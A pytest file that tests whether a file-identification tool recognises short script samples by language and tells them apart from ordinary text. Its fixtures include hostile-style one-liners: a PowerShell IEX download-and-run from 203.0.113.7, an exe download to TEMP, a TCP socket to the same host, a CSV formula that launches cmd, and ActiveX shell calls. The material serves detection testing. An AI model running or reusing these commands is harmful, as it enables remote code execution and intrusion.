"""Scripts of one line, and scripts inside markup, are told by words of a single language."""

import asyncio
import secrets
from pathlib import Path

import pytest

from samplebank.identification import Identifier

SCRIPTS = {
    "js of one line": ("javascript", 'var s = new ActiveXObject("WScript.Shell"); s.Run("calc.exe");\n'),
    "js that evaluates": ("javascript", 'eval(unescape("%61%6c%65%72%74%28%31%29"));\n'),
    "js with a function": ("javascript", "(function(){var a=[1,2];WScript.Echo(a.join());})();\n"),
    "vbs of one line": ("vba", 'CreateObject("WScript.Shell").Run "calc.exe", 0, False\n'),
    "ps1 of one line": (
        "powershell",
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\n",
    ),
    "ps1 with a cmdlet": (
        "powershell",
        "Invoke-WebRequest -Uri http://203.0.113.7/a.exe -OutFile $env:TEMP\\a.exe\n",
    ),
    "ps1 that assigns": ("powershell", "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.7', 443)\n"),
    "hta": (
        "hta",
        '<html><head><HTA:APPLICATION ID="a" BORDER="none"/></head><script language="VBScript">MsgBox 1</script></html>\n',
    ),
    "wsf": ("wsf", '<job id="a"><script language="JScript">WScript.Echo("a");</script></job>\n'),
    "csv that asks another program": ("csv", "=cmd|'/c calc.exe'!A1,2,3\nname,amount,day\n"),
}
TEXTS = {
    "prose about cmdlets": "Get-Item and Set-Item are two of the cmdlets that everybody should know by heart.\n",
    "a letter": "Dear all,\nlet us meet on Monday at ten. New-York is fine, too.\n",
    "a table with bars": "name | amount | day!\nanna | 12 | monday!\n",
    "words of a function": "The function of the variable is described below; let x = 1 be the start.\n",
}


async def type_of(identifier: Identifier, path: Path, text: str) -> str:
    await asyncio.to_thread(path.write_text, text)
    return (await identifier.identify(path)).type


@pytest.mark.parametrize("name", SCRIPTS)
async def test_a_short_script_has_its_language(identifier: Identifier, tmp_path: Path, name: str) -> None:
    language, text = SCRIPTS[name]

    assert await type_of(identifier, tmp_path / "sample", text) == language


@pytest.mark.parametrize("name", TEXTS)
async def test_a_text_is_no_script(identifier: Identifier, tmp_path: Path, name: str) -> None:
    found = await type_of(identifier, tmp_path / "sample", TEXTS[name])

    assert found not in {"powershell", "javascript", "vba", "hta", "wsf", "batch"}


async def test_a_mark_of_utf16_before_a_batch_file_hides_no_batch_file(
    identifier: Identifier, tmp_path: Path
) -> None:
    script = "@echo off\r\nset a=b\r\nif exist %temp%\\%a%.exe goto end\r\ncopy x %temp%\\%a%.exe\r\n:end\r\n"
    (tmp_path / "x").write_bytes(b"\xff\xfe" + script.encode())

    found = await identifier.identify(tmp_path / "x")

    assert found.type == "batch"


INTERPRETERS = {
    "#!/bin/sh": "shell",
    "#! /usr/bin/env bash": "shell",
    "#!/usr/bin/python3.11 -u": "python",
    "#!/usr/bin/env -S perl -w": "perl",
    "#!/opt/own/runner": "unknown",
}


@pytest.mark.parametrize("line", INTERPRETERS)
async def test_bytes_behind_a_script_do_not_hide_the_type_of_the_script(
    identifier: Identifier, tmp_path: Path, line: str
) -> None:
    program = b"\x7fELF\x02\x01\x01" + bytes(9) + secrets.token_bytes(20_000)
    (tmp_path / "x").write_bytes(line.encode() + b"\n\n" + program)

    found = await identifier.identify(tmp_path / "x")

    assert found.type == INTERPRETERS[line]
